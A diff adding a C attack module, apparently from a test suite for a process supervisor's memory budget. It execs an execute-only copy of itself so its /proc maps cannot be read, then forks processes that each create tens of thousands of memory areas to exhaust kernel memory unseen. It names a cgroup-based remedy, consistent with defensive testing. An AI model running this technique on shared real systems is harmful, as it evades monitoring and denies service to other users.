@@ -1,0 +1,82 @@
+// SPDX-License-Identifier: MIT
+/*
+ * unreadable-areas.c - areas of an address space that nobody may look at.
+ *
+ * Goal:  more memory than the budget.
+ * Means: as split-areas, but of a program of mode 0111: the kernel makes it not dumpable, and the
+ *        supervisor, of the same user, cannot open its /proc/PID/maps to count the areas.
+ */
+#include "attacks/attack.h"
+
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+enum { AREAS = 64900, CHILDREN = 29 };
+#define PAGE 4096l
+
+/* Runs in the copy, before main() is told anything. */
+__attribute__((constructor)) static void in_the_copy(void)
+{
+	char *range;
+
+	if (!getenv("UNREADABLE"))
+		return;
+	range = mmap(NULL, AREAS * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	for (long i = 0; i < AREAS; i += 2)
+		mprotect(range + i * PAGE, PAGE, PROT_READ);
+	for (int i = 0; i < CHILDREN; i++)
+		if (fork() == 0)
+			_exit((int)sleep(4));
+	sleep(4);
+	_exit(0);
+}
+
+static int copy(const char *name)
+{
+	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+	int out = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
+	char text[65536];
+	ssize_t n;
+
+	while ((n = read(in, text, sizeof(text))) > 0)
+		if (write(out, text, (size_t)n) != n)
+			return -1;
+	return n || close(in) || close(out) ? -1 : 0;
+}
+
+static enum claim run(const struct brief *b)
+{
+	const char *dir = getenv("TMPDIR");
+	char name[256];
+	pid_t child;
+
+	snprintf(name, sizeof(name), "%s/copy", dir ? dir : "/tmp");
+	if (copy(name) || chmod(name, 0111))
+		return failed("copy");
+	attempting(b);
+	child = fork();
+	if (child < 0)
+		return denied("fork");
+	if (child == 0) {
+		setenv("UNREADABLE", "1", 1);
+		execl(name, name, NULL);
+		_exit(1);
+	}
+	sleep(4);
+	return CLAIM_DONE;
+}
+
+const struct attack attack = {
+	.effect = "more of the kernel's memory than the budget",
+	.means = "64000 areas in each process of a program of mode 0111, whose maps are closed",
+	.oracle = "usage:memory",
+	.attack_id = "T1499.001, CWE-770",
+	.remedy = "count the largest number there may be for whom cannot be read; a memory cgroup",
+	.refs = (const char *const[]){ "execve(2)", "proc_pid_maps(5)", NULL },
+	.run = run,
+};
